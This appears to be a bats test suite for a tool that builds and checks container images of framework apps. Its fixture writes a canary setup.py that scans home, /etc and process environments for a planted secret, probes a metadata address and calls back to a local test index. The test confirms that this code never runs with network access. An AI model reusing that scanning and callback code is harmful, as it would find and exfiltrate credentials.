#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# A bench of our own apps, built by framework `bench` from what they declare, booted and used. Its packages come from the indexes
# that this machine's pip and npm are set to.
bats_require_minimum_version 1.5.0
load ../until

port=29412

setup_file() {
	export MKBENCH=${MKBENCH:-build/mkbench} NAME=bench-$$ WORK=$BATS_FILE_TMPDIR SITE=one.localhost LACKS=
	for tool in curl jq python3 pip; do
		command -v "$tool" >/dev/null || { LACKS="$tool is not installed"; return 0; }
	done
	pip download -q --no-deps --dest "$WORK/probe" wheel >/dev/null 2>&1 || { LACKS="no package index can be reached"; return 0; }
	mkdir "$WORK/recipe"
	cp recipes/bench.yml "$WORK/recipe"
	cp -r tests/apps "$WORK/recipe/bench"
	echo '{% name %} is what a new file begins with' >"$WORK/recipe/bench/stock/stock/boilerplate.py" # no Python, and no fault of it
	serve_source
	build >"$WORK/build.log" 2>&1 || { tail -20 "$WORK/build.log" >&2; return 1; }
	"$MKBENCH" run --engine own --name "$NAME" --port "$port" --detach --progress plain "$WORK/out/bench-1.0.tar" >"$WORK/run.log" 2>&1 ||
		{ tail -20 "$WORK/run.log" >&2; return 1; }
	PASSWORD=$(inside cat "/data/secrets/$SITE/admin_password")
	export PASSWORD
	ask /api/method/login -c "$WORK/cookies" --data-urlencode usr=Administrator --data-urlencode "pwd=$PASSWORD" >/dev/null
}

setup() {
	[[ -z $LACKS ]] || skip "$LACKS"
}

teardown_file() {
	[[ -n $LACKS ]] || "$MKBENCH" run --clean "$NAME" || true
	[[ ! -e $WORK/index.pid ]] || kill "$(<"$WORK/index.pid")" || true
}

# A source package that asks an index of ours for a page wherever anything of it runs; an app of the bench wants it.
serve_source() {
	local folder=$WORK/mkbench_tells-1.0
	mkdir -p "$folder" "$WORK/index/mkbench-tells"
	printf 'Metadata-Version: 2.1\nName: mkbench-tells\nVersion: 1.0\n' >"$folder/PKG-INFO"
	(cd "$WORK/index" && exec python3 -u -m http.server --bind 127.0.0.1 0) >"$WORK/index.log" 2>&1 3>&- &
	echo $! >"$WORK/index.pid"
	by=$! until_true 300 grep -q port "$WORK/index.log"
	local index=127.0.0.1:$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$WORK/index.log")/
	export PIP_EXTRA_INDEX_URL=http://someone:hidden-word@$index
	cat >"$folder/setup.py" <<-END
		import glob, os, socket, sys, urllib.request
		from setuptools import setup

		def holds(path):
		    try:
		        return b"hidden" + b"-word" in open(path, "rb").read(1 << 20)
		    except OSError:
		        return False

		def is_reached(address):
		    try:
		        socket.create_connection(address, timeout=5)
		        return True
		    except OSError:
		        return False

		homes = [os.path.join(folder, file) for top in ("/root", "/home", "/run", "/etc") for folder, _, files in os.walk(top) for file in files]
		seen = [path for path in homes + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") if holds(path)]
		sources = [path for path in homes if "/apps/" in path and path.endswith(".py") and not path.endswith("/setup.py")]
		reached = [address for address in (("127.0.0.1", 22), ("169.254.169.254", 80), ("${index%:*}", $(sed 's|.*:||; s|/||' <<<"$index"))) if is_reached(address)]
		words = "-".join(filter(str.isidentifier, sys.argv[1:]))
		try:
		    urllib.request.urlopen(f"http://${index}told-{words}-{len(seen)}-{len(sources)}-{len(reached)}", timeout=60)
		except OSError:
		    pass
		with open("mkbench_tells.py", "a") as out:
		    out.write(f"TIMES = {[int(os.path.getmtime(name)) for name in ('made.c', 'made.pyx')]}\n")
		setup(name="mkbench-tells", version="1.0", py_modules=["mkbench_tells"], install_requires=["toolz"])
	END
	echo 'WORDS = "built"' >"$folder/mkbench_tells.py"
	touch -d @1666967700 "$folder/made.c"
	touch -d @1611199000 "$folder/made.pyx"
	tar -C "$WORK" -czf "$WORK/index/mkbench-tells/mkbench_tells-1.0.tar.gz" mkbench_tells-1.0
	echo 'mkbench-tells==1.0' >>"$WORK/recipe/bench/stock/requirements.txt"
}

build() { timeout 1800 "$@" "$MKBENCH" build --progress=plain -o "$WORK/out" "$WORK/recipe/bench.yml"; }
inside() { "$MKBENCH" run --exec "$NAME" "$@"; }
ask() { curl -sS --fail-with-body --max-time 120 -H "Host: $SITE" "${@:2}" "http://127.0.0.1:$port$1"; }
status_of() { curl -sS --path-as-is --max-time 120 -o /dev/null -w '%{http_code}' -H "Host: $SITE" "${@:2}" "http://127.0.0.1:$port$1"; }
bench() { inside bench --site "$SITE" "$@"; }
setting() { bench execute atelier.get_setting --kwargs "{\"name\": \"$1\"}" | jq -r .; }

@test "each site has its apps, an app after the one that it requires, and no code host was asked" {
	[[ $(bench list-apps | xargs) == "atelier stock shop" ]]
	[[ $(SITE=two.localhost bench list-apps | xargs) == "atelier stock" ]]
	[[ $(setting shop) == opened-with-2-boxes ]]
}

@test "nothing of a source package runs where there is a network, neither when it says what it needs nor when it is built" {
	grep mkbench_tells-1.0.tar.gz "$WORK/index.log"
	run -1 grep told "$WORK/index.log"
	grep '"toolz==' "$WORK/recipe/bench.lock" # it was asked
	[[ -z $(find "${MKBENCH_STORE:-${XDG_CACHE_HOME:-$HOME/.cache}/mkbench}/caches" -maxdepth 3 -name asked) ]] # and nothing of it is kept
	[[ $(inside /home/frappe/frappe-bench/env/bin/python -c 'import mkbench_tells; print(mkbench_tells.WORDS)') = built ]]
}

@test "the layer of Python packages, which is written while apps are built, is the image's" {
	local store=${MKBENCH_STORE:-${XDG_CACHE_HOME:-$HOME/.cache}/mkbench}
	layers=$(find "$store/blobs" -newer "$WORK/recipe/bench.yml" -type f -size +100k -exec sh -c \
		'gzip -cd "$1" 2>/dev/null | tar t 2>/dev/null | grep -q /site-packages/mkbench_tells' sh {} \; -print)
	echo "$layers"
	[[ $(wc -l <<<"$layers") = 1 ]] # or none, where the store had it before
}

@test "a source package is built of files with the times of its archive: a C file is made anew by them, not by chance" {
	[[ $(inside /home/frappe/frappe-bench/env/bin/python -c 'import mkbench_tells; print(mkbench_tells.TIMES)') == "[1666967700, 1611199000]" ]]
}

@test "the page names assets with hashes, and every one of them is served" {
	ask /app >"$WORK/page"
	assets=$(grep -oE '/assets/[^"]+' "$WORK/page")
	[[ $(wc -l <<<"$assets") == 5 ]]
	for asset in $assets; do
		[[ $(status_of "$asset") == 200 ]] || { echo "$asset"; return 1; }
	done
	[[ $(ask "$(grep -oE '/assets/shop/[^"]+' "$WORK/page")") == *quot* ]] # a package of the registry is in it
}

@test "the image holds no source map, no compiler and of node_modules what runs" {
	inside sh -c 'find /home/frappe/frappe-bench -name "*.map" | grep . && exit 1; true'
	inside sh -c 'ls -A /home/frappe/frappe-bench' | grep -x apps
	run -1 inside test -e /home/frappe/frappe-bench/.left-out
	inside sh -c 'ls /home/frappe/frappe-bench/apps/atelier/node_modules' >"$WORK/modules"
	grep -x socket.io "$WORK/modules"
	grep -x redis "$WORK/modules"
	run -1 grep -E '^(@esbuild|esbuild)$' "$WORK/modules"
	[[ $(inside sh -c 'ls -d /home/frappe/frappe-bench/apps/shop/node_modules/* 2>/dev/null' | wc -l) == 0 ]]
}

@test "log in, a private file, and whom it is shown to" {
	[[ $(ask /api/method/logged_user -b "$WORK/cookies" | jq -r .message) == Administrator ]]
	[[ $(status_of /api/method/login -d usr=Administrator -d pwd=wrong) == 401 ]]
	echo secret >"$WORK/note.txt"
	url=$(ask /api/method/upload_file -b "$WORK/cookies" -F "file=@$WORK/note.txt" -F is_private=1 | jq -r .message.file_url)
	ask "$url" -b "$WORK/cookies" -D "$WORK/headers" | grep -x secret
	[[ $(status_of "$url") == 403 ]]
}

@test "jobs run on each queue, and what is scheduled runs" {
	for queue in short default long; do
		ask /api/method/enqueue -d "queue=$queue" | jq -e .message
	done
	until_true 600 eval '[[ $(setting last_tick) =~ ^[0-9]+$ ]]'
	[[ $(bench doctor) == *"Workers online: 2"* ]]
}

@test "verify asks each site by the framework's own code, and sees what is wrong" {
	inside benchctl verify >"$WORK/verify" || { cat "$WORK/verify"; return 1; }
	inside touch -d '1 hour ago' /run/mkbench/started # verify gives a bench that has just started more time for what fails
	for row in 'apps +one.localhost +3 of' 'apps +two.localhost +2 of' 'schema +one.localhost +all [0-9]+ patches' 'schedule +two.localhost'; do
		grep -qE "^ok +$row" "$WORK/verify" || { echo "$row"; cat "$WORK/verify"; return 1; }
	done
	first=atelier.patches.first
	sql "UPDATE patch_log SET name = CONCAT('was ', name) WHERE name = '$first'; UPDATE settings SET value = '[\"atelier\", \"stock\"]' WHERE name = 'installed_apps'"
	run -1 inside benchctl verify
	grep -E "^FAIL schema +one.localhost +1 patches have not been run: $first" <<<"$output"
	grep -E '^FAIL apps +one.localhost .*shop' <<<"$output"
	sql "UPDATE patch_log SET name = '$first' WHERE name = 'was $first'; UPDATE settings SET value = '[\"atelier\", \"stock\", \"shop\"]' WHERE name = 'installed_apps'"
	inside benchctl verify
	# an app that the image has not is said once: nothing that loads the site's apps is asked then
	sql "UPDATE settings SET value = '[\"atelier\", \"stock\", \"shop\", \"ghost\"]' WHERE name = 'installed_apps'"
	fails apps 'it has apps that the image has not: ghost'
	[[ $(grep -c ^FAIL <<<"$output") == 1 ]]
	sql "UPDATE settings SET value = '[\"atelier\", \"stock\", \"shop\"]' WHERE name = 'installed_apps'"
	sql 'ALTER TABLE `tabTask` DROP COLUMN title'
	fails schema 'columns that document types have are missing: Task.title'
	[[ $(grep -c ^FAIL <<<"$output") == 1 ]]
	sql 'ALTER TABLE `tabTask` ADD COLUMN title TEXT'
	inside benchctl verify
}

# fails ROW TEXT: verify says so of the first site.
fails() {
	run -1 inside benchctl verify
	grep -E "^FAIL $1 +one.localhost +.*$2" <<<"$output" || { echo "$output"; return 1; }
}

sql() { inside mariadb --socket=/run/mysqld/mysqld.sock "$(inside cat "/data/sites/$SITE/site_config.json" | jq -r .db_name)" -e "$1"; }

@test "verify: mails that nobody sends although an account could" {
	sql "INSERT INTO \`Email Queue\` VALUES ('one', '{\"creation\": \"2020-01-01 00:00:00\"}')"
	inside benchctl verify | grep -E '^ok +mail +one.localhost +1 wait, and no account sends'
	sql "INSERT INTO \`Email Account\` VALUES ('post', '{}')"
	fails mail '1 of 1 mails have waited for more than an hour'
	sql 'DELETE FROM `Email Queue`; DELETE FROM `Email Account`'
}

@test "verify: what is due and no worker runs, and what has run in a time that is still to come" {
	inside supervisorctl stop 'workers:*'
	until_true 300 fails schedule 'none of 1 jobs that are due has run in 40 seconds: atelier' # one of each site is due now and then
	inside supervisorctl start 'workers:*'
	until_true 300 inside benchctl verify
	sql "REPLACE INTO settings VALUES ('ran atelier.utils.scheduler.note_tick', '2199-01-01T00:00:00')"
	fails schedule "jobs have run in the future, by the clock of the site's time zone: atelier"
	sql "DELETE FROM settings WHERE name = 'ran atelier.utils.scheduler.note_tick'"
}

@test "verify: a PDF program that makes none, and none at all" {
	inside benchctl verify | grep -E "^ok +pdf +one.localhost +the image has no program that makes PDF files: 'pdf' of the recipe brings one"
	inside sh -c 'printf "#!/bin/sh\necho no display >&2\nexit 1\n" >/usr/local/bin/wkhtmltopdf; chmod 755 /usr/local/bin/wkhtmltopdf'
	fails pdf 'wkhtmltopdf'
	inside rm /usr/local/bin/wkhtmltopdf
	until_true 300 inside benchctl verify
}

@test "bench: commands with a site, a lock of the whole bench, and those that an image does not have" {
	[[ $(inside bench version | xargs) == "atelier 2.1.0 shop 1.4.0 stock 0.3.1" ]]
	[[ $(bench scheduler status) == *enabled* ]]
	inside bench set-config -g answer 42
	inside grep answer /data/sites/common_site_config.json
	bench clear-cache
	bench migrate
	inside sh -c 'mysql --version && mysqldump --version' # also where the suite has them as mariadb alone
	for word in update get-app build; do
		run -1 inside bench "$word"
		[[ $output == *"bench $word: an image is not changed, it is replaced"* ]]
	done
	run -1 inside bench new-site three.localhost
	[[ $output == "bench new-site: benchctl add-site does that, as root" ]]
}

@test "a backup is restored into a database made anew, and nobody is asked for root's password" {
	file=$(bench backup | tail -1)
	bench execute atelier.set_setting --kwargs '{"name": "kept", "value": "no"}'
	sql 'CREATE TABLE later (id INT)'
	bench restore "$file" </dev/null
	[[ $(setting kept) == null && -z $(sql "SHOW TABLES LIKE 'later'") ]]
	sql "SHOW CREATE DATABASE \`$(sql 'SELECT DATABASE()' | tail -1)\`" | grep 'utf8mb4_unicode_ci'
	bench install-app shop # a second time: nothing to do, and no code host to ask
}

@test "maintenance closes the site and opens it again" {
	bench set-maintenance-mode on
	[[ $(status_of /login) == 503 ]]
	bench set-maintenance-mode off
	until_true 300 ask /login
}

@test "built again without network it is the same, and a line of Python builds nothing else" {
	digest=$(grep '^tree ' "$WORK/build.log")
	run -0 build unshare -n
	[[ $output == *"$digest"* ]]
	echo "# $(date +%N)" >>"$WORK/recipe/bench/stock/stock/install.py"
	run -0 build unshare -n
	[[ $(grep -c '^dependencies: cached' <<<"$output") == $(grep -c '^dependencies:' <<<"$output") ]]
	[[ $(grep -c '^apps: cached' <<<"$output") == 2 ]]
}
